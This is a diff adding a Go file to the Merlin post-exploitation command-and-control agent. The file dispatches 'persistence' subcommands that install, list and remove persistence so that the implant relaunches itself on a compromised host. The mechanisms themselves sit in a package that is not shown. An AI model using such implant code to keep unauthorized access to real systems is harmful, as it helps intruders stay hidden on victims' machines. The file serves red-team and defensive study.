@@ -0,0 +1,117 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os"
+	"strings"
+	"text/tabwriter"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/persistence"
+)
+
+// Persistence lists, installs, and removes persistence methods and tracks what was installed so it can be cleaned up
+// persistence methods
+// persistence install <method|auto> <name> [command...]
+// persistence list
+// persistence remove <id>
+func Persistence(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering into commands.Persistence() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the persistence command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "methods":
+		var sb strings.Builder
+		w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+		fmt.Fprintln(w, "Method\tRoot\tDescription")
+		for _, name := range persistence.Methods() {
+			description, privileged, _ := persistence.Describe(name)
+			fmt.Fprintf(w, "%s\t%t\t%s\n", name, privileged, description)
+		}
+		_ = w.Flush()
+		results.Stdout = sb.String()
+	case "install":
+		if len(cmd.Args) < 3 {
+			results.Stderr = "not enough arguments provided to the persistence install command"
+			return
+		}
+		method := strings.ToLower(cmd.Args[1])
+		var err error
+		if method == "auto" {
+			method, err = persistence.Auto(persistence.Preferred)
+			if err != nil {
+				results.Stderr = err.Error()
+				return
+			}
+		}
+		command := strings.Join(cmd.Args[3:], " ")
+		if command == "" {
+			command, err = os.Executable()
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error getting the agent's executable path: %s", err)
+				return
+			}
+		}
+		record, err := persistence.Install(method, cmd.Args[2], command)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Installed %s persistence %s at %s running: %s", record.Method, record.ID, record.Artifact, record.Command)
+	case "list":
+		records := persistence.List()
+		if len(records) == 0 {
+			results.Stdout = "there is no installed persistence"
+			return
+		}
+		var sb strings.Builder
+		w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+		fmt.Fprintln(w, "ID\tMethod\tInstalled\tArtifact\tCommand")
+		for _, record := range records {
+			fmt.Fprintf(w, "%s\t%s\t%s\t%s\t%s\n", record.ID, record.Method, record.Installed.Format("2006-01-02T15:04:05Z"), record.Artifact, record.Command)
+		}
+		_ = w.Flush()
+		results.Stdout = sb.String()
+	case "remove", "rm":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the persistence remove command"
+			return
+		}
+		record, err := persistence.Remove(cmd.Args[1])
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Removed %s persistence %s from %s", record.Method, record.ID, record.Artifact)
+	default:
+		results.Stderr = fmt.Sprintf("unknown persistence command: %s", cmd.Args[0])
+	}
+	return
+}